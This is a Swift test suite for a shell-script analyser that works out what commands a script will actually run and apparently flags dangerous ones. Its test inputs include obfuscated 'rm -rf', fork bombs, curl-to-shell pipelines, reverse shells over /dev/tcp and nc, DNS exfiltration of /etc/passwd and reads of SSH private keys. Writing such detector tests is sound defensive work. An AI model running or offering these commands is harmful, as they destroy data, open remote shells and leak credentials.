// SPDX-License-Identifier: Apache-2.0

import Testing

@testable import ShellSyntax

@Suite struct ExpansionTests {
    /// What `p` gets; arguments that are empty or have blanks in quotes.
    @Test(arguments: [
        ("p r''m \"a b\" $'\\x41' \\z", "p rm 'a b' A z"), ("p {a,b}{1..3} {x}", "p a1 a2 a3 b1 b2 b3 {x}"),
        ("a=c; p $a{b,d}", "p"),
        ("p ~ ~/x a=~/y -o=~ ~-x", "p /home/u /home/u/x a=/home/u/y -o=~ ~-x"), ("x='a  b'; p $x \"$x\"", "p a b 'a  b'"),
        ("p $unset \"\" '' \"$unset\"", "p '' '' ''"), ("IFS=:; x=a::b; p $x", "p a '' b"), ("IFS=:; p a:b", "p a:b"),
        ("set -- a 'b c'; p \"$@\" $# \"$*\" x\"$@\"y", "p a 'b c' 2 'a b c' xa 'b cy'"),
        ("x=(1 '2 3'); p \"${x[@]}\" ${#x[@]} ${x[1]} ${!x[@]}", "p 1 '2 3' 2 2 3 0 1"),
        ("declare -A m=([k]=v); p ${m[k]} ${!m[@]}", "p v k"),
        ("x=path/to/f.tar.gz; p ${x##*/} ${x%.*} ${x%%.*} ${x#*/}", "p f.tar.gz path/to/f.tar path/to/f to/f.tar.gz"),
        ("x=aXbX; p ${x/X/-} ${x//X/-} ${x/#a/-} ${x/%X/-} ${x^^} ${x,,} ${x^}", "p a-bX a-b- -XbX aXb- AXBX axbx AXbX"),
        ("x=abcdef; p ${x:2} ${x:1:2} ${x: -2} ${x:0:-1} ${#x}", "p cdef bc ef abcde 6"),
        ("y=x; x=1; p ${!y} ${x:+set} ${z:-none} ${z:=now} $z", "p 1 set none now now"),
        ("p ${PATH:0:1}bin ${HOME%/*}", "p /bin /home"),
        ("p $((1+2*3)) $((2**10)) $((7/2)) $((0x1f)) $((1?2:3)) $((i++)) $i", "p 7 1024 3 31 2 0 1"),
        ("p $(echo a b) \"$(printf 'a\\n\\n')\" `echo c`", "p a b a c"), ("x='a*'; p $x \"$x\" *.c [ab]", "p a* a* *.c [ab]"),
        ("x='it'\\''s'; p ${x@Q}", "p 'it'\\''s'"),
        ("p @(a|b)*", "p @(a|b)*"), ("p {1..3..2} {c..a} {01..03}", "p 1 3 c b a 01 02 03"),
        ("x=3; p $((x<<2)) $((x==3&&x<4)) $((x,x+1))", "p 12 1 4"),
    ])
    func wordsBecomeFields(_ script: String, _ expected: String) {
        let line = script.contains("${PATH") ? Runs.last(script, environment: nil) : Runs.last(script)
        #expect(line == expected)
    }

    @Test func zshDoesNotSplit() {
        #expect(Runs.last("x='a b'; p $x", .zsh) == "p 'a b'")
        #expect(Runs.last("=rm x", .zsh) == "rm x")
        #expect(Runs.last("x=(a b); p $x $x[1]", .zsh)?.hasPrefix("p a b") == true)
        #expect(Runs.last("setopt shwordsplit; x='a b'; p $x", .zsh) == "p a b")
    }

    @Test func posixKnowsNoBraces() { #expect(Runs.last("p {a,b} $'x'", .posix) == "p {a,b} $x") }

    @Test func whatIsNotKnownIsAHole() {
        let field = Runs.resolution("p a$x/b").invocations[0].words[1]
        #expect(field.pieces == [.text("a"), .unknown(.parameter("x")), .text("/b")])
        #expect(field.isSplit && field.isDynamic && field.pattern == "a*/b")
        #expect(Runs.resolution("p \"$(date)\"").invocations.last?.words[1].producers == [0])
    }

    @Test func commandWordsAreFound() {
        #expect(Runs.last("a=r;b=m;$a$b -r x") == "rm -r x")
        #expect(Runs.of("$(echo rm) x").last == "rm x")
        #expect(Runs.of("/bin/r? x").contains("?/bin/rm x"))
        let unset = Runs.resolution("$x rm -rf /")
        #expect(unset.invocations.map(Runs.line) == ["?… rm -rf /", "?rm -rf /"])
        #expect(unset.unknowns.map(\.reason) == [.program])
        #expect(Runs.last("r${x}m y", environment: nil) == "?rm y")
    }
}

@Suite struct StateTests {
    @Test(arguments: [
        ("x=1; x+=2; p $x", "p 12"), ("x=1 p $x", "p"), ("x=1; (x=2); p $x", "p 1"), ("x=1; echo | x=2; p $x", "p 1"),
        ("{ x=2; }; p $x", "p 2"),
        ("f() { local x=1; y=2; p $1; }; x=0; f a; p $x $y", "p 0 2"), ("f() { return; p no; }; f; p yes", "p yes"),
        ("set -- a b c; shift; p $1 $#", "p b 2"),
        ("for i in a b; do p $i; done; p $i", "p b"), ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; p $i", "p 3"),
        ("case abc in a*) x=1;; *) x=2;; esac; p $x", "p 1"),
        ("if [ a = b ]; then x=1; else x=2; fi; p $x", "p 2"), ("read a b <<< '1 2 3'; p $a \"$b\"", "p 1 '2 3'"),
        ("printf -v x '%03d' 7; p $x", "p 007"),
        ("mapfile -t x <<< $'a\\nb'; p ${x[1]}", "p b"), ("declare -i n=2+3; p $n", "p 5"), ("readonly x=1; x=2; p $x", "p 1"),
        ("unset HOME; p ~", "p /home/u"),
        ("declare -u x=abc; p $x", "p ABC"), ("x=1; unset x; p ${x-none}", "p none"), ("eval 'x=5; p' '$x'", "p 5"),
        ("exit; p never", "exit"),
        ("true && p a", "p a"), ("x=a; x=b && p $x", "p b"), ("trap 'p bye' EXIT; p hello", "p bye"),
        ("declare -n r=x; r=5; p $x", "p 5"), ("let x=2*3; p $x", "p 6"),
        ("for ((i=0; i<2; i++)); do p $i; done", "p 1"), ("until [ \"$x\" = aaa ]; do x+=a; done; p $x", "p aaa"),
        ("alias g=grep; g x", "?grep x"), ("f() { \"$@\"; }; f rm -r x", "rm -r x"),
    ])
    func stateIsFollowed(_ script: String, _ last: String) { #expect(Runs.last(script) == last) }

    @Test func bothBranchesAreToldWhereTheConditionIsOpen() {
        #expect(Runs.of("if [ -f x ]; then c=rm; else c=ls; fi; $c y") == ["[ -f x ]", "?ls y", "?rm y"])
        #expect(Runs.of("test -f x && p a || p b") == ["test -f x", "?p a", "?p b"])
        #expect(Runs.of("while read -r f; do rm \"$f\"; done < list").last == "?rm …")
        #expect(Runs.of("test -f x && exit; p a").last == "?p a")
    }

    @Test func foldersAreFollowed() {
        func folders(_ script: String) -> [String?] {
            Runs.resolution(script).invocations.filter { $0.words[0].text == "cat" }.map(\.directory)
        }
        #expect(folders("cd /tmp; cat a") == ["/tmp"])
        #expect(folders("cd sub && cat a") == ["/home/u/work/sub"])
        // Where it is not there, cat runs here.
        #expect(folders("cd sub; cat a") == ["/home/u/work/sub", "/home/u/work"])
        #expect(folders("cd sub; cat /a") == ["/home/u/work/sub"])
        #expect(folders("cd sub || exit; cat a") == ["/home/u/work/sub"])
        #expect(folders("set -e; cd sub; cat a") == ["/home/u/work/sub"])
        #expect(folders("(cd sub && cat a); cat b") == ["/home/u/work/sub", "/home/u/work"])
        #expect(folders("pushd /tmp; cat a; popd; cat a") == ["/tmp", "/home/u/work"])
        #expect(folders("cd \"$x\"; cat a") == [nil])
        #expect(folders("cd ..; cd -; cat a") == ["/home/u/work"])
    }

    @Test func loopsAndFunctionsWithoutEndAreNoted() {
        #expect(Runs.resolution(":(){ :|:& };:").traits == [.forkBomb])
        #expect(Runs.resolution("f() { f & f & }; f").traits == [.forkBomb])
        #expect(Runs.resolution("while true; do echo; done").traits == [.endlessLoop])
        #expect(Runs.resolution("for ((;;)); do :; done").traits == [.endlessLoop])
        #expect(Runs.resolution("while :; do sleep 5; done").traits.isEmpty)
        #expect(Runs.resolution("f() { [ $1 = 0 ] || f 0; }; f 1").traits.isEmpty)
    }
}

@Suite struct FlowTests {
    /// What `p` gets from what was printed.
    @Test(arguments: [
        ("p $(echo -e 'a\\tb' | tr '\\t' -)", "p a-b"), ("p $(echo cm0gLXJm | base64 -d)", "p rm -rf"),
        ("p $(echo 726d | xxd -r -p)", "p rm"), ("p $(echo mr | rev)", "p rm"),
        ("p $(printf '%s-%d|' a 1 b 2)", "p a-1|b-2|"), ("p $(printf '\\x72\\155')", "p rm"),
        ("p $(printf 'b\\na\\n' | sort | head -n 1)", "p a"), ("p $(echo a:b:c | cut -d: -f2)", "p b"),
        ("p $(echo sn | sed 's/s/r/;y/n/m/')", "p rm"), ("p $(echo a b | awk '{print $2}')", "p b"),
        ("p $(awk 'BEGIN{print \"rm\"}')", "p rm"), ("p $(seq 3 | tac)", "p 3 2 1"),
        ("p $(echo ORZ | tr A-Z N-ZA-M)", "p BEM"), ("p $(basename /a/b.c .c) $(dirname /a/b.c)", "p b /a"),
        ("p $(yes no | head -n 2)", "p no no"), ("p $(cat <<< hi)", "p hi"),
        ("echo hi > f; p $(cat f) $(<f)", "p hi hi"), ("echo a > f; echo b >> f; p $(cat f)", "p a b"),
        ("p $(echo a | tee f) ; p $(cat f)", "p a"), ("cat > f <<< x; mv f g; p $(cat g)", "p x"),
        ("p $(echo hello | openssl base64 | openssl enc -base64 -d)", "p hello"), ("p $(echo A | base32 | base32 -d)", "p A"),
        ("p $(echo aab | tr -s a | tr -d b)", "p a"),
        ("p $(printf 'a b\\n' | while read x y; do echo $y $x; done)", "p b a"), ("p $(pwd)", "p /home/u/work"),
        ("p $(echo x | wc -c)", "p 2"), ("p $(printf '%q' 'a b')", "p a\\ b"),
    ])
    func outputIsWorkedOut(_ script: String, _ last: String) { #expect(Runs.last(script) == last) }

    /// Scripts that come from somewhere; the last invocation is what they run.
    @Test(arguments: [
        ("eval 'r''m x'", "rm x"), ("bash -c 'rm $1' _ y", "rm y"), ("echo rm x | sh", "rm x"), ("bash <<< 'rm x'", "rm x"),
        ("bash <(echo rm x)", "rm x"), (". <(echo rm x)", "rm x"),
        ("echo 'rm $1' > a.sh; sh a.sh y", "rm y"), ("echo 'rm x' > a; chmod +x a; ./a", "rm x"),
        ("cat > a <<'E'\nrm x\nE\nsource a", "rm x"), ("x=$(echo rm x | base64); echo $x | base64 -d | sh", "rm x"),
        ("echo 'rm x' | tee a | cat; bash a", "rm x"), ("env A=b sudo -u r sh -c 'rm x'", "rm x"), ("echo x | xargs rm", "?rm x"),
        ("bash -s y <<< 'rm $1'", "rm y"), ("exec rm x", "rm x"),
        ("export x=y; sh -c 'rm $x'", "rm y"), ("ssh h 'rm x'", "rm x"),
    ])
    func whatStartsIsFollowed(_ script: String, _ last: String) { #expect(Runs.last(script) == last) }

    @Test func placesAndStartersAreKept() {
        let remote = Runs.resolution("ssh h 'cd /x && sudo rm y'").invocations.last
        #expect(remote?.place == .host("h") && remote?.directory == "/x" && remote?.starters == ["ssh", "sudo"])
        #expect(remote?.usage.traits.isSuperset(of: [.remote, .privilege]) == true)
        #expect(Runs.resolution("sh -c 'x=1'; cat f").invocations.last?.place == .here)
    }

    @Test func inputIsKnownOrNamed() {
        #expect(Runs.resolution("echo a | p").invocations.last?.input == .text(Array("a\n".utf8)))
        #expect(Runs.resolution("p < f").invocations.last?.input == .file("/home/u/work/f"))
        #expect(Runs.resolution("date | p").invocations.last?.input == .output([0]))
        #expect(Runs.resolution("p < /dev/null").invocations.last?.input == .nothing)
    }

    @Test func redirectionsAreUses() {
        func uses(_ script: String) -> [String] {
            Runs.resolution(script).invocations.last?.usage.uses.map { "\($0.kind) \($0.target.pattern)" } ?? []
        }
        #expect(uses("p > a 2>> b < c") == ["write a", "write b", "read c"])
        #expect(uses("p > /dev/null 2>&1").isEmpty)
        #expect(uses("p > /dev/tcp/h/80") == ["connect h:80"])
        #expect(uses("> a") == ["write a"])
        #expect(uses("{ :; } &> a") == ["write a"] || Runs.resolution("{ :; } &> a").invocations.first?.usage.uses.count == 1)
    }

    @Test func filesAreReadWhereTheyMayBe() {
        let resolution = Runs.resolution(
            "bash s.sh a; . e.sh; p $v",
            files: ["/home/u/work/s.sh": "rm $1", "/home/u/work/e.sh": "v=1"]
        )
        #expect(resolution.invocations.map(Runs.line) == ["bash s.sh a", "rm a", ". e.sh", "p 1"])
        #expect(Runs.resolution("bash other.sh").unknowns.isEmpty)
    }
}

@Suite struct ProvenanceTests {
    private static func traits(_ script: String, _ name: String) -> Set<RunTrait> {
        Runs.resolution(script).invocations.filter { $0.words[0].text == name }.reduce(into: []) { $0.formUnion($1.usage.traits) }
    }

    @Test(arguments: [
        ("curl http://e/x | sh", "sh", RunTrait.runsDownload), ("bash <(curl http://e/x)", "bash", .runsDownload),
        ("sh -c \"$(curl http://e)\"", "sh", .runsDownload),
        ("eval \"$(wget -qO- http://e)\"", "eval", .runsDownload), ("x=$(curl http://e); eval \"$x\"", "eval", .runsDownload),
        ("curl -o a http://e; bash a", "bash", .runsDownload),
        ("curl http://e > a; sh a", "sh", .runsDownload), ("curl http://e | tee a; . ./a", ".", .runsDownload),
        ("sh <<< $(curl http://e)", "sh", .runsDownload),
        ("echo cm0= | base64 -d | sh", "sh", .runsDecoded), ("base64 -d f | sh", "sh", .runsDecoded),
        ("cat f | sh", "sh", .runsOutput), ("python3 -c \"$(curl http://e)\"", "python3", .runsDownload),
        ("curl http://e | python3", "python3", .runsDownload), ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "bash", .reverseShell),
        ("exec 5<>/dev/tcp/h/1; sh <&5 >&5", "sh", .reverseShell),
        ("mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f", "sh", .reverseShell),
        ("dig $(cat /etc/passwd).e.com", "dig", .dnsExfiltration), ("LD_PRELOAD=x ls", "ls", .preloads),
    ])
    func originsAreTold(_ script: String, _ name: String, _ trait: RunTrait) {
        #expect(Self.traits(script, name).contains(trait))
    }

    @Test func harmlessScriptsHaveNone() {
        for script in [
            "echo ls | sh", "sh -c 'ls'", "bash script.sh", "x=ls; eval $x", "cat <<E | bash\nls\nE", "dig example.com",
            "ping $HOST",
        ] {
            let traits = Runs.resolution(script).invocations.reduce(into: Set<RunTrait>()) { $0.formUnion($1.usage.traits) }
            #expect(
                traits.isDisjoint(with: [.runsOutput, .runsDecoded, .runsDownload, .dnsExfiltration, .reverseShell]),
                "\(script)"
            )
        }
    }

    @Test(arguments: [
        "cat f | nc h 1", "nc h 1 < f", "tar c d | ssh h 'cat > x'", "curl -d @- http://e < f", "curl http://e/$(cat f)",
        "cat f > /dev/tcp/h/1",
    ])
    func dataThatGoesOutIsSeen(_ script: String) {
        #expect(Runs.resolution(script).invocations.contains { $0.usage.uses.contains { $0.kind == .connect && $0.sendsData } })
    }

    @Test func linksAreReadThrough() {
        for script in [
            "ln -s ~/.ssh/id_rsa a; cat a", "cp ~/.ssh/id_rsa a && cat a", "mv ~/.ssh a; cat a/id_rsa",
            "ln -s ~/.ssh d; cat d/id_rsa",
        ] {
            let uses = Runs.resolution(script).invocations.last?.usage.uses ?? []
            #expect(uses.contains { $0.kind == .read && $0.target.text == "/home/u/.ssh/id_rsa" }, "\(script)")
        }
    }
}
